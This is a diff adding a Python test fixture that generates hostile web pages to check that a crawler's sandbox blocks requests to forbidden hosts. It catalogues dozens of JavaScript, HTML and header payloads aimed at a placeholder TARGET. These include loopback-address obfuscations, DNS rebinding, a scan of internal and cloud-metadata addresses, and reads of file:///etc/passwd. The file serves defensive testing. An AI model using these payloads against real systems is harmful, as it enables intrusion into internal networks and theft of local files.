@@ -1,0 +1,183 @@
+"""Pages whose scripts try to reach what the crawl may not contact: name -> (body of the page, its headers).
+
+``TARGET`` stands for a forbidden server (host:port), ``PORT`` for its port, ``PUBLIC`` for the allowed one.
+"""
+
+from __future__ import annotations
+
+#: Run as scripts.
+SCRIPTS = {
+    "fetch": "fetch('http://TARGET/')",
+    "fetch no-cors": "fetch('http://TARGET/', {mode: 'no-cors'})",
+    "fetch post": "fetch('http://TARGET/', {method: 'POST', body: 'x', mode: 'no-cors'})",
+    "fetch keepalive": "fetch('http://TARGET/', {keepalive: true, mode: 'no-cors'})",
+    "fetch https": "fetch('https://TARGET/', {mode: 'no-cors'})",
+    "fetch with target address space": "fetch('http://TARGET/', {mode: 'no-cors', targetAddressSpace: 'loopback'})",
+    "fetch with user": "fetch('http://TARGET/', {mode: 'no-cors', credentials: 'include'})",
+    "xhr": "x = new XMLHttpRequest(); x.open('GET', 'http://TARGET/'); x.send()",
+    "xhr waiting": "x = new XMLHttpRequest(); x.open('GET', 'http://TARGET/', false); try { x.send() } catch (e) {}",
+    "localhost": "fetch('http://localhost:PORT/', {mode: 'no-cors'})",
+    "a.localhost": "fetch('http://a.localhost:PORT/', {mode: 'no-cors'})",
+    "number": "fetch('http://2130706433:PORT/', {mode: 'no-cors'})",
+    "hexadecimal": "fetch('http://0x7f.1:PORT/', {mode: 'no-cors'})",
+    "unspecified": "fetch('http://0.0.0.0:PORT/', {mode: 'no-cors'})",
+    "ipv6": "fetch('http://[::1]:PORT/', {mode: 'no-cors'})",
+    "mapped": "fetch('http://[::ffff:127.0.0.1]:PORT/', {mode: 'no-cors'})",
+    "name": "fetch('http://evil.test:PORT/', {mode: 'no-cors'})",
+    "name of ipv6": "fetch('http://evil6.test:PORT/', {mode: 'no-cors'})",
+    "alias": "fetch('http://alias.test:PORT/', {mode: 'no-cors'})",
+    "rebinding": "fetch('http://rebinding.test:PORT/close', {mode: 'no-cors'}).finally("
+    "() => fetch('http://rebinding.test:PORT/2', {mode: 'no-cors'}))",
+    "redirect": "fetch('/redirect', {mode: 'no-cors'})",
+    "redirect of a script": "s = document.createElement('script'); s.src = '/redirect'; document.head.append(s)",
+    "the proxy itself": "for (let p = 30000; p < 30020; p++) fetch(`http://127.0.0.1:${p}/`, {mode: 'no-cors'});"
+    "fetch('http://TARGET/', {mode: 'no-cors', headers: {'Proxy-Connection': 'x'}})",
+    "script": "s = document.createElement('script'); s.src = 'http://TARGET/'; document.head.append(s)",
+    "module": "import('http://TARGET/x.js').catch(() => 0)",
+    "image": "new Image().src = 'http://TARGET/'",
+    "audio": "new Audio('http://TARGET/').play().catch(() => 0)",
+    "beacon": "navigator.sendBeacon('http://TARGET/', 'x')",
+    "events": "new EventSource('http://TARGET/')",
+    "websocket": "new WebSocket('ws://TARGET/')",
+    "secure websocket": "new WebSocket('wss://TARGET/')",
+    "websocket by name": "new WebSocket('ws://evil.test:PORT/')",
+    "websocket stream": "if (window.WebSocketStream) new WebSocketStream('ws://TARGET/').opened.catch(() => 0)",
+    "webrtc stun": "rtc([{urls: 'stun:TARGET'}])",
+    "webrtc stun by name": "rtc([{urls: 'stun:evil.test:PORT'}])",
+    "webrtc turn udp": "rtc([{urls: 'turn:TARGET?transport=udp', username: 'u', credential: 'p'}])",
+    "webrtc turn tcp": "rtc([{urls: 'turn:TARGET?transport=tcp', username: 'u', credential: 'p'}])",
+    "webrtc turn tls": "rtc([{urls: 'turns:TARGET?transport=tcp', username: 'u', credential: 'p'}])",
+    "webrtc peer": "rtc([], 'candidate:1 1 udp 2122260223 127.0.0.1 PORT typ host')",
+    "webrtc peer tcp": "rtc([], 'candidate:1 1 tcp 1518280447 127.0.0.1 PORT typ host tcptype passive')",
+    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('http://TARGET/', {mode: 'no-cors'})\"])))",
+    "worker imports": "new Worker(URL.createObjectURL(new Blob([\"importScripts('http://TARGET/')\"])))",
+    "worker websocket": "new Worker(URL.createObjectURL(new Blob([\"new WebSocket('ws://TARGET/')\"])))",
+    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('http://TARGET/', {mode: 'no-cors'})\"]"
+    ")))",
+    "location": "location = 'http://TARGET/'",
+    "location replaced": "location.replace('http://TARGET/')",
+    "location file": "location = 'file:///etc/passwd'",
+    "location view-source": "location = 'view-source:http://TARGET/'",
+    "pop-up": "window.open('http://TARGET/')",
+    "pop-up without opener": "window.open('http://TARGET/', '_blank', 'noopener')",
+    "frame": "add('<iframe src=http://TARGET/></iframe>')",
+    "frame in a frame": "add('<iframe srcdoc=\"<iframe src=http://TARGET/></iframe>\"></iframe>')",
+    "frame redirected": "add('<iframe src=/redirect></iframe>')",
+    "frame of a file": "add('<iframe src=file:///etc/passwd></iframe>')",
+    "frame that posts": "add('<iframe name=f></iframe><form target=f method=post action=http://TARGET/></form>');"
+    "document.forms[0].submit()",
+    "sandboxed frame": "add('<iframe sandbox=allow-scripts srcdoc=\"<script>new WebSocket(`ws://TARGET/`);"
+    "fetch(`http://TARGET/`, {mode: `no-cors`})<\\/script>\"></iframe>')",
+    "form": "add('<form action=http://TARGET/></form>'); document.forms[0].submit()",
+    "form by post": "add('<form method=post action=http://TARGET/></form>'); document.forms[0].submit()",
+    "ping": "add('<a href=#x ping=http://TARGET/>x</a>'); document.querySelector('a').click()",
+    "download": "add('<a href=http://TARGET/x download>x</a>'); document.querySelector('a').click()",
+    "file read": "fetch('file:///etc/passwd').then(r => r.text()).then(t => add(t))",
+    "file by xhr": "x = new XMLHttpRequest(); x.onload = () => add(x.responseText); x.open('GET', 'file:///etc/passwd');"
+    "try { x.send() } catch (e) {}",
+    "local network scan": "for (const h of ['10.0.0.1', '192.168.1.1', '169.254.169.254', '172.16.0.1', '100.64.0.1'])"
+    "fetch(`http://${h}/`, {mode: 'no-cors'})",
+}
+
+#: Run as scripts of https pages, which may do more.
+SECURE = {
+    "webtransport": "t = new WebTransport('https://TARGET/'); t.ready.catch(() => 0); t.closed.catch(() => 0)",
+    "webtransport by hash": "t = new WebTransport('https://TARGET/', {serverCertificateHashes: [{algorithm: 'sha-256',"
+    "value: new Uint8Array(32)}]}); t.ready.catch(() => 0); t.closed.catch(() => 0)",
+    "worker webtransport": "new Worker(URL.createObjectURL(new Blob([\"new WebTransport('https://TARGET/')\"])))",
+    "service worker": "navigator.serviceWorker && navigator.serviceWorker.register('/worker.js').catch(() => 0)",
+    "fetch by https": "fetch('https://TARGET/', {mode: 'no-cors'})",
+    "fetch later": "if (window.fetchLater) fetchLater('https://TARGET/', {activateAfter: 0})",
+    "local network": "fetch('http://TARGET/', {mode: 'no-cors', targetAddressSpace: 'loopback'})",
+    "wss": "new WebSocket('wss://TARGET/')",
+    "direct socket": "if (window.TCPSocket) new TCPSocket('127.0.0.1', PORT).opened.catch(() => 0)",
+    "payment": "if (window.PaymentRequest) new PaymentRequest([{supportedMethods: 'https://TARGET/'}],"
+    "{total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => 0)",
+    "credentials": "navigator.credentials.get({identity: {providers: [{configURL: 'https://TARGET/c', clientId: 'x'}]}}"
+    ").catch(() => 0)",
+    "webrtc of https": "rtc([{urls: ['stun:TARGET', 'turns:TARGET']}])",
+}
+
+#: Written as HTML.
+MARKUP = {
+    "stylesheet": "<link rel=stylesheet href=http://TARGET/>",
+    "stylesheet imported": "<style>@import 'http://TARGET/x.css';</style>",
+    "font": "<style>@font-face {font-family: f; src: url(http://TARGET/f.woff2)} b {font-family: f}</style><b>x</b>",
+    "background": "<style>body {background: url(http://TARGET/x.png)}</style>",
+    "preload": "<link rel=preload as=fetch crossorigin href=http://TARGET/>",
+    "preload of a module": "<link rel=modulepreload href=http://TARGET/x.js>",
+    "prefetch": "<link rel=prefetch href=http://TARGET/>",
+    "prerender": "<link rel=prerender href=http://TARGET/>",
+    "speculation": "<script type=speculationrules>"
+    '{"prefetch": [{"urls": ["http://TARGET/"], "eagerness": "immediate"}],'
+    '"prerender": [{"urls": ["http://TARGET/2"], "eagerness": "immediate"}]}</script>',
+    "preconnect": "<link rel=preconnect href=http://TARGET>",
+    "dns-prefetch": "<link rel=dns-prefetch href=http://evil.test:PORT>",
+    "manifest": "<link rel=manifest href=http://TARGET/m.json>",
+    "icon": "<link rel=icon href=http://TARGET/i.png>",
+    "object": "<object data=http://TARGET/ type=text/html></object>",
+    "embed": "<embed src=http://TARGET/ type=text/html>",
+    "video": "<video src=http://TARGET/ autoplay muted></video>",
+    "track": "<video><track src=http://TARGET/ default></video>",
+    "svg": "<svg xmlns:xlink=http://www.w3.org/1999/xlink><use xlink:href=http://TARGET/#a />"
+    "<image href=http://TARGET/ /></svg>",
+    "refresh": "<meta http-equiv=refresh content='0; url=http://TARGET/'>",
+    "base": "<base href=http://TARGET/><script src=x.js></script>",
+}
+
+#: Headers of the page make the browser send something.
+HEADERS = {
+    "policy reports": {
+        "Content-Security-Policy": "script-src 'unsafe-inline'; img-src 'none'; report-uri http://TARGET/"
+    },
+    "reporting": {
+        "Reporting-Endpoints": 'default="http://TARGET/r"',
+        "Content-Security-Policy": "script-src 'unsafe-inline'; img-src 'none'; report-to default",
+    },
+    "link header": {"Link": "<http://TARGET/x.css>; rel=preload; as=style, <http://TARGET>; rel=preconnect"},
+    "network errors": {
+        "Report-To": '{"group": "g", "max_age": 999, "endpoints": [{"url": "http://TARGET/"}]}',
+        "NEL": '{"report_to": "g", "max_age": 999, "success_fraction": 1.0}',
+    },
+    "alternative": {"Alt-Svc": 'h3="TARGET"; ma=999, h2="TARGET"; ma=999', "Refresh": "9; url=http://TARGET/"},
+}
+
+#: Helpers of the scripts.
+PRELUDE = """<script>
+const add = html => document.body.insertAdjacentHTML('beforeend', html);
+async function rtc(servers, candidate) {
+    const one = new RTCPeerConnection({iceServers: servers});
+    one.createDataChannel('x');
+    await one.setLocalDescription(await one.createOffer());
+    if (candidate) {
+        const other = new RTCPeerConnection();
+        await other.setRemoteDescription(one.localDescription);
+        await other.setLocalDescription(await other.createAnswer());
+        await one.setRemoteDescription(other.localDescription);
+        await one.addIceCandidate({candidate: candidate, sdpMid: '0', sdpMLineIndex: 0});
+    }
+}
+</script>"""
+
+
+def hostile_pages(target: str, port: int) -> dict[str, tuple[str, dict[str, str]]]:
+    """Name of the attempt -> (HTML, headers)."""
+    pages = {name: (_page(script), {}) for name, script in (SCRIPTS | SECURE).items()}
+    pages |= {name: (_page("", markup), {}) for name, markup in MARKUP.items()}
+    pages |= {name: (_page("add('<img src=/x.png>')"), headers) for name, headers in HEADERS.items()}
+
+    def aimed(text: str) -> str:
+        return text.replace("TARGET", target).replace("PORT", str(port))
+
+    return {
+        name: (aimed(html), {key: aimed(value) for key, value in headers.items()})
+        for name, (html, headers) in pages.items()
+    }
+
+
+def _page(script: str, markup: str = "") -> str:
+    run = f"try {{ {script} }} catch (error) {{ document.body.append('' + error) }}"
+    return (
+        f"<!doctype html><title>not tried</title><body>{PRELUDE}{markup}"
+        f"<script>document.title = 'tried'; {run}</script></body>"
+    )
